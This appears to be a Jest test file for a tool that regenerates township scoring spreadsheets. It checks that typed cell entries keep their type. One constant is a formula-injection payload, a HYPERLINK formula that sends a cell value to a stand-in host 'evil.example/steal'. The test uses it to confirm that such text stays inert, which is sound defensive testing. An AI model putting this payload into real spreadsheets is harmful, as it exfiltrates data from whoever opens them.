/**
 * Entries keep their type when the scoring sheets are generated again (real .xlsx files, `kaohe score-sheet`):
 * only a cell that was a formula is a formula again; text stays text - also text that reads like a formula, such as
 * a HYPERLINK typed into 备注 - dates stay dates, error values stay error values. Entries set aside on 未匹配的录入
 * keep their type too, and that sheet is never read as a book.
 */
import ExcelJS from "exceljs";
import { UNMATCHED_SHEET } from "../../src/core/scoringSheet";
import { tempDir } from "../cli/run";
import { SOURCE, UNIT_SHEET, cols, generatedTowns, readRows, regenerate, rowIndex, sheetRows, writeRows } from "./towns";

const HYPERLINK = '=HYPERLINK("http://evil.example/steal?u="&B2,"详情")';
const DAY = new Date(Date.UTC(2026, 2, 15));

/** Typed entries on 螅镇's sheet: indicator, column, value as ExcelJS writes it. */
const TYPED: [string, "deduction" | "note", ExcelJS.CellValue][] = [
  ["水利工作", "note", HYPERLINK],
  ["科技工作", "note", DAY],
  ["脱贫攻坚", "deduction", { error: "#N/A" } as ExcelJS.CellErrorValue],
  ["禁毒工作", "deduction", { formula: "0.5+0.5", result: 1 } as ExcelJS.CellFormulaValue],
  ["民政工作", "note", "+86 0912 1234567"],
  ["住建工作", "deduction", 2],
];

const dir = tempDir();
let filled: string;

beforeAll(async () => {
  const book = new ExcelJS.Workbook();
  await book.xlsx.readFile(await generatedTowns(dir));
  const sheet = book.getWorksheet(UNIT_SHEET)!;
  const rows = sheetRows(sheet);
  for (const [name, column, value] of TYPED) {
    const cell = sheet.getRow(rows.get(name)!).getCell(cols[column] + 1);
    cell.value = value;
    // A date shown as one (the input cells share one style object: this cell gets its own).
    if (value instanceof Date) cell.style = { ...cell.style, numFmt: "yyyy-mm-dd" };
  }
  filled = `${dir}/typed.xlsx`;
  await book.xlsx.writeFile(filled);
}, 120_000);

const cellOf = (ws: ExcelJS.Worksheet, name: string, column: "deduction" | "note") => ws.getRow(sheetRows(ws).get(name)!).getCell(cols[column] + 1);

test("text stays text, a date a date, an error value an error value, and only a formula a formula", async () => {
  const { lines, regenerated } = await regenerate(dir, filled, "again");
  expect(lines[1]).toBe("已填写的录入：保留 6 项，移到改名或挪动后的指标 0 项，未匹配 0 项");
  const ws = regenerated.getWorksheet(UNIT_SHEET)!;
  const link = cellOf(ws, "水利工作", "note");
  expect(link.type).toBe(ExcelJS.ValueType.String);
  expect(link.value).toBe(HYPERLINK);
  const day = cellOf(ws, "科技工作", "note");
  expect(day.type).toBe(ExcelJS.ValueType.Date);
  expect(day.value).toEqual(DAY);
  expect(cellOf(ws, "脱贫攻坚", "deduction").value).toEqual({ error: "#N/A" });
  expect(cellOf(ws, "禁毒工作", "deduction").formula).toBe("0.5+0.5");
  expect(cellOf(ws, "民政工作", "note").value).toBe("+86 0912 1234567");
  expect(cellOf(ws, "住建工作", "deduction").value).toBe(2);
  // No other input cell of the sheet holds a formula.
  const formulas: string[] = [];
  ws.eachRow((row, r) => {
    for (const column of ["actual", "deduction", "note"] as const) if (row.getCell(cols[column] + 1).formula) formulas.push(`${column}${r}`);
  });
  expect(formulas).toEqual([`deduction${sheetRows(ws).get("禁毒工作")}`]);
}, 120_000);

test("entries set aside keep their type on 未匹配的录入, and that sheet is never scored", async () => {
  const { out, lines, regenerated } = await regenerate(dir, filled, "deleted", (workbook) => {
    const towns = workbook.getWorksheet(SOURCE)!;
    const rows = readRows(towns);
    rows.splice(rowIndex(rows, "水利工作"), 2);
    writeRows(towns, rows);
  });
  expect(lines[1]).toBe(`已填写的录入：保留 4 项，移到改名或挪动后的指标 0 项，未匹配 2 项（原样放在“${UNMATCHED_SHEET}”表）`);
  const set = regenerated.getWorksheet(UNMATCHED_SHEET)!;
  const notes = [3, 4].map((r) => set.getRow(r).getCell(8));
  expect(notes.map((c) => c.type)).toEqual([ExcelJS.ValueType.String, ExcelJS.ValueType.Date]);
  expect(notes.map((c) => c.value)).toEqual([HYPERLINK, DAY]);
  expect([3, 4].map((r) => set.getRow(r).getCell(5).value)).toEqual(["水利工作", "科技工作"]);

  // Generated once more: the same two scoring sheets, nothing set aside again, the unmatched sheet left as it was.
  const again = await regenerate(dir, out, "once-more");
  expect(again.lines).toEqual([`${again.out}: 2 张评分表`, "已填写的录入：保留 4 项，移到改名或挪动后的指标 0 项，未匹配 0 项"]);
  expect(again.regenerated.worksheets.map((w) => w.name).filter((n) => n.startsWith(UNMATCHED_SHEET))).toEqual([UNMATCHED_SHEET]);
}, 180_000);
